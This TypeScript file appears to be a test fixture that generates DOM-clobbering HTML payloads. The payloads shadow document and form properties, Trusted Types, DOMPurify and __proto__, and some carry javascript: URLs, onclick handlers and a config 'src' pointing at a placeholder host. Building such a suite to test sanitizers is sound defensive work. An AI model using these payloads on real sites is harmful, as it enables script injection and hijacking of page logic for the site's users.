import type {Family} from "./family.js"

/// Properties of a document that an element's name takes the place of.
const ofDocument = [
  ...["body", "head", "documentElement", "childNodes", "firstChild", "nodeType", "cookie", "forms"],
  ...["createElement", "getElementById", "querySelector", "querySelectorAll"],
]
/// Properties of a form that the name of a control in it takes the place of.
const ofForm = [
  ...["attributes", "childNodes", "children", "firstChild", "nodeName", "nodeType", "parentNode", "content"],
  ...["localName", "ownerDocument", "getAttribute", "hasAttribute", "closest", "__proto__", "constructor"],
]
/// Ids of our own, in the shadow root or made from an annotation's.
const ours = [
  ...["list-title", "more-menu", "finder-words", "field-claimReviewed"],
  ...["card-urn:uuid:00000000-0000-4000-8000-000000000001", "title-of-urn:uuid:00000000-0000-4000-8000-000000000001"],
]

/// Names and ids that take the place of something a script relies on.
export const clobbering: Family = ({run, host}) => [
  ...ofDocument.map(name => `<p>Bridge</p><img name=${name} alt="x"><form name=${name}></form>`),
  ...ofForm.map(name => `<form><p>Bridge</p><input name=${name}></form>`),
  ...ours.map(id => `<p id="${id}">Bridge</p><mark aria-details="${id}">Open</mark>`),
  `<form><p>Bridge</p><input name=childNodes><input name=childNodes><p onclick=${run}>Open</p></form>`,
  `<a id=hit></a><a id=hit name=call href="javascript:${run}">Bridge</a>`,
  `<form id=config><output id=src>http://${host}/</output></form><p>Bridge</p>`,
  `<iframe name=config srcdoc="<iframe name=urls srcdoc='<a id=src href=http://${host}/></a>'></iframe>"></iframe>`,
  `<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href="x">Bridge</a>`,
  `<a id=DOMPurify></a><a id=DOMPurify name=isSupported href="">Bridge</a>`,
  `<img name=currentScript src=data:, alt=""><p>Bridge</p>`,
  `<embed name=getSelection><object id=implementation></object><p>Bridge</p>`,
  `<form name=location><input name=href value="javascript:${run}"></form><p>Bridge</p>`,
  `<p id=customElements>Bridge</p><p id=indexedDB>Open</p><p id=navigator>Dry</p>`,
  `<div id=__proto__><p name=polluted>Bridge</p></div>`,
  `<form><button id=a form=f onclick=${run}>Send</button><fieldset name=elements>Bridge</fieldset></form>`,
  `<fieldset name=length><object name=item></object>Bridge</fieldset>`,
  `<slot name=""><p>Bridge</p></slot><p slot="" id=base class="base bar desk frame">Open</p>`,
]
